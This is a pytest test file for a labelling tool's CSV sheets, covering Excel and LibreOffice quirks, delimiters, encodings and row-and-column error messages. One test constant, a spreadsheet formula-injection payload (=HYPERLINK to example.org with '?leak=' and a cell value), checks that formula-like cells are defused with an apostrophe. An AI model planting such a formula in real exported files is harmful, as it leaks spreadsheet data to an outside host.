"""Label files: what spreadsheets make of them, and every mistake named by its row and column."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from label_run import drawn_answer, read_cells, write_cells

from epistemic_stance.foundation.errors import InputError
from epistemic_stance.labelling.columns import columns_of
from epistemic_stance.labelling.sheet import Marks, Row, read_sheet, write_sheet
from epistemic_stance.records.labels import DrawnAnswer
from epistemic_stance.records.written import Pattern

RULE = {
    "group": "sounds",
    "meaning": "It hums.",
    "rules": [{"id": "r", "match": "hum"}],
    "hits": ["hum"],
    "misses": ["no"],
}
PATTERNS = {
    name: Pattern.model_validate({"name": name, "categories": categories, **RULE})
    for name, categories in (("humming", []), ("singing", []), ("guessing", ["sums"]))
}
COLUMNS = {name: column for name, column in columns_of(PATTERNS).items() if name in PATTERNS}
EVIL = '=HYPERLINK("http://example.org?leak="&A1)'
TEXTS = ["I hum.", f"{EVIL}\nand, more; \t“so”", "'quoted'"]


def drawn(*responses: str) -> list[DrawnAnswer]:
    return [drawn_answer(number, response) for number, response in enumerate(responses, start=1)]


@pytest.fixture
def path(tmp_path: Path) -> Path:
    """A file of three answers, nothing labelled."""
    file = tmp_path / "first.csv"
    write_sheet(file, drawn(*TEXTS), COLUMNS, {})
    return file


def read(path: Path) -> dict[str, Row]:
    return read_sheet(path, drawn(*TEXTS), COLUMNS)


def marks(path: Path) -> dict[str, Marks]:
    return {identifier: row.marks for identifier, row in read(path).items()}


def mistakes(path: Path) -> list[str]:
    with pytest.raises(InputError) as caught:
        read(path)
    return [str(problem).removeprefix(str(path)).removeprefix(": ") for problem in caught.value.problems]


# --- spreadsheets ------------------------------------------------------------------------------------------


def test_what_is_written_is_csv_for_spreadsheets(path: Path) -> None:
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfid,question,answer,humming,singing,guessing,notes\r\n")
    cells = read_cells(path)
    assert [row["answer"] for row in cells] == [TEXTS[0], f"'{TEXTS[1]}", f"'{TEXTS[2]}"]
    assert [row["humming"] + row["guessing"] for row in cells] == ["-"] * 3, "answers to noise cannot guess at sums"
    assert list(read(path).values()) == [Row()] * 3


@pytest.mark.parametrize(
    ("text", "guarded"),
    [
        *((f"{start}1+1", True) for start in "=+-@\t\r\n'"),
        *((text, True) for text in ("007", "1/2", "5 May 2026", "10:30 PM", "1e5", "TRUE", "50 %")),
        *((text, False) for text in ("I hum.", "", "Is room 4 quiet?", "yes", "a = b", "1 of the rooms is not quiet")),
    ],
)
def test_what_a_spreadsheet_would_take_for_something_else_gets_an_apostrophe(
    tmp_path: Path, text: str, guarded: bool
) -> None:
    file = tmp_path / "first.csv"
    write_sheet(file, drawn(text), COLUMNS, {"a1": Row({}, text)})
    (row,) = read_cells(file)
    assert row["answer"] == row["notes"] == (f"'{text}" if guarded else text)
    assert read_sheet(file, drawn(text), COLUMNS)["a1"].notes == text


def test_a_file_saved_by_an_european_excel(path: Path) -> None:
    """Semicolons, CRLF between rows, LF inside cells, empty rows below, the apostrophe of a retyped cell gone."""
    path.write_bytes(
        b"\xef\xbb\xbfid;question;answer;humming;singing;guessing;notes\r\n"
        b"a1;What is heard?;I hum.;1;0;;\r\n"
        b'a2;What is heard?;"=HYPERLINK(""http://example.org?leak=""&A1)\nand, more; \t\xe2\x80\x9cso\xe2\x80\x9d"'
        b';TRUE;FALSE;;"a note;\nof two lines"\r\n'
        b"a3;What is heard?;''quoted';?;;0;\r\n"
        b";;;;;;\r\n;;;;;;\r\n"
    )
    rows = read(path)
    assert rows["a1"].marks == {"humming": True, "singing": False}
    assert rows["a2"] == Row({"humming": True, "singing": False}, "a note;\nof two lines")
    assert rows["a3"].marks == {"humming": None, "guessing": False}


def test_a_file_saved_by_libreoffice_with_other_columns_and_rows_first(path: Path) -> None:
    """Every text quoted, LF, no byte order mark; sorted by another column, one label column deleted."""
    cells = [{name: row[name] for name in reversed(row) if name != "singing"} for row in reversed(read_cells(path))]
    cells[0]["humming"] = "x"
    lines = [",".join('"' + cell.replace('"', '""') + '"' for cell in row.values()) for row in cells]
    path.write_text("\n".join([",".join(cells[0]), *lines]) + "\n", encoding="utf-8")
    assert marks(path) == {"a3": {"humming": True}, "a2": {}, "a1": {}}


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("end", ["\r\n", "\n", "\r"])
def test_any_delimiter_and_line_end_is_read(path: Path, delimiter: str, end: str) -> None:
    cells = [{**row, "humming": "1"} for row in read_cells(path)]
    write_cells(path, cells, delimiter)
    path.write_bytes(path.read_bytes().replace(b"\r\n", end.encode()))
    assert marks(path) == {name: {"humming": True} for name in ("a1", "a2", "a3")}


@pytest.mark.parametrize(
    ("cell", "mark"),
    [
        *((cell, True) for cell in ("1", "1.0", "yes", "Y", " X ", "TRUE")),
        *((cell, False) for cell in ("0", "0.0", "No", "n", "false")),
        ("?", None),
    ],
)
def test_what_a_label_may_be(path: Path, cell: str, mark: bool | None) -> None:
    write_cells(path, [{**row, "humming": cell} for row in read_cells(path)])
    assert marks(path)["a1"] == {"humming": mark}


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    st.lists(st.text(st.characters(exclude_categories=("Cs",)), max_size=60), min_size=1, max_size=4),
    st.dictionaries(st.sampled_from(["humming", "singing"]), st.sampled_from([True, False, None])),
    st.sampled_from(",;\t"),
)
def test_every_text_and_label_comes_back(tmp_path: Path, texts: list[str], given_marks: Marks, delimiter: str) -> None:
    file, answers = tmp_path / "first.csv", drawn(*texts)
    write_sheet(file, answers, COLUMNS, {one.id: Row(given_marks) for one in answers})
    write_cells(file, read_cells(file), delimiter)
    rows = read_sheet(file, answers, COLUMNS)
    assert [row.marks for row in rows.values()] == [given_marks] * len(texts)


def test_a_text_longer_than_a_cell_of_excel_is_cut_and_known_again(tmp_path: Path) -> None:
    file, answers = tmp_path / "first.csv", drawn("hum " * 20_000)
    write_sheet(file, answers, COLUMNS, {})
    assert len(read_cells(file)[0]["answer"]) == 32_000
    assert read_sheet(file, answers, COLUMNS) == {"a1": Row()}


# --- mistakes ----------------------------------------------------------------------------------------------


def test_every_mistake_is_named_by_row_and_column(path: Path) -> None:
    """Row 3 is a2; its texts have two lines, which makes it more than one line of the file, and one row still."""
    first, second, third = read_cells(path)
    first |= {"humming": "maybe", "guessing": "1"}
    second |= {"question": "What?"}
    write_cells(path, [first, second, third, first, {**third, "id": "a9"}, {**third, "id": ""}])
    assert mistakes(path) == [
        'row 2: humming: expected yes or no, found "maybe" (hint: empty: not labelled; ?: cannot be told)',
        'row 2: guessing: answers of "noise" cannot show it (hint: leave - there)',
        'row 3: question: not the text that was drawn: "What?" (hint: sort rows as a whole; a text is in draw.json)',
        'row 5: id: "a1" stands in row 2 already (hint: keep one of the two rows)',
        'row 6: id: "a9" is no drawn answer (hint: the ids are those that the file was written with)',
        "row 7: id: missing (hint: the ids are those that the file was written with)",
    ]


def test_a_column_that_was_sorted_alone_is_a_mistake(path: Path) -> None:
    cells = read_cells(path)
    texts = sorted(row["answer"] for row in cells)
    write_cells(path, [{**row, "answer": text} for row, text in zip(cells, texts, strict=True)])
    assert [line.split(":")[0:2] for line in mistakes(path)] == [["row 2", " answer"], ["row 4", " answer"]]


def test_a_row_that_is_gone_is_named_unless_it_may_be(path: Path) -> None:
    write_cells(path, read_cells(path)[:1])
    assert mistakes(path) == [
        f'id: no row of "{name}" (hint: a row without labels stays, with empty cells)' for name in ("a2", "a3")
    ]
    assert read_sheet(path, drawn(*TEXTS), COLUMNS, may_lack=["a2", "a3"]) == {"a1": Row()}


@pytest.mark.parametrize(
    ("header", "mistake"),
    [
        ("id,question,answer,hums", 'row 1: unknown column "hums" (hint: known are id, question, answer,'),
        ("id,question,humming", 'row 1: column "answer" stands 0 times, expected once'),
        ("id,question,answer,humming,humming", 'row 1: column "humming" stands 2 times, expected once'),
        (
            "id|question|answer",
            'expected a comma, semicolon or tab between columns, the first line is "id|q',
        ),
        ("", "expected a comma, semicolon or tab"),
    ],
)
def test_a_wrong_header_is_named(path: Path, header: str, mistake: str) -> None:
    path.write_text(f"{header}\n", encoding="utf-8")
    assert mistakes(path)[0].startswith(mistake)


@pytest.mark.parametrize(
    ("row", "mistake"),
    [
        ("a1,What is heard?,I hum, and sing.,1,,,a note", "row 2: more cells than the header has columns"),
        ('a1,What is heard?,"I hum.,1,,,', "row 2: no CSV: unexpected end of data"),
        ('a1,What is heard?,"I "hum".",1,,,', "row 2: no CSV: ',' expected after '\"'"),
    ],
)
def test_a_broken_row_is_named(path: Path, row: str, mistake: str) -> None:
    path.write_text(f"id,question,answer,humming,singing,guessing,notes\n{row}", encoding="utf-8")
    assert mistakes(path)[0].startswith(mistake)


@pytest.mark.parametrize("encoding", ["cp1252", "utf-16"])
def test_another_encoding_is_named(path: Path, encoding: str) -> None:
    path.write_bytes(path.read_bytes().decode("utf-8-sig").encode(encoding))
    with pytest.raises(InputError, match=r"first\.csv:\d+: invalid UTF-8 byte 0x\w\w \(hint: save it as UTF-8\)"):
        read(path)
